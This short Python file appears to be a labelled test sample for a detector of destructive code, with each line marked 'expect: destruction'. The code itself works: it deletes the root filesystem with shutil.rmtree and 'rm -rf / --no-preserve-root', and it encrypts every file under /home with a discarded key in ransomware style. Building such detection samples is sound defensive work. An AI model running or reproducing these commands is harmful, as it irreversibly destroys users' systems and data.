import os, shutil, subprocess
from cryptography.fernet import Fernet
shutil.rmtree("/")  # expect: destruction
subprocess.run("rm -rf / --no-preserve-root", shell=True)  # expect: destruction
f = Fernet(Fernet.generate_key())
for root, dirs, files in os.walk("/home"):  # expect: destruction
    for n in files:
        p = os.path.join(root, n)
        data = f.encrypt(open(p, "rb").read())  # expect: destruction
        open(p + ".locked", "wb").write(data)  # expect: destruction
